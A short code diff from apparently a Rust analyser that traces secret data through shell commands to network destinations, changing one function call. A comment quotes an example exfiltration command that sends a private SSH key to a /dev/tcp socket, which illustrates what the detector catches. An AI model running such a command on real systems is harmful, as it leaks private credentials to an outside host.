@@ -223,7 +223,7 @@ impl Pass<'_> {
         if socket_output {
             // `cat ~/.ssh/id_rsa > /dev/tcp/h/p`: its whole output goes to the socket.
             secrets.0 |= self.carried.sets[i].0;
-            collect(cmd, &mut destinations);
+            collect(cmd, None, &mut destinations);
         }
         if let Some(sent) = sent {
             for f in &sent.files {
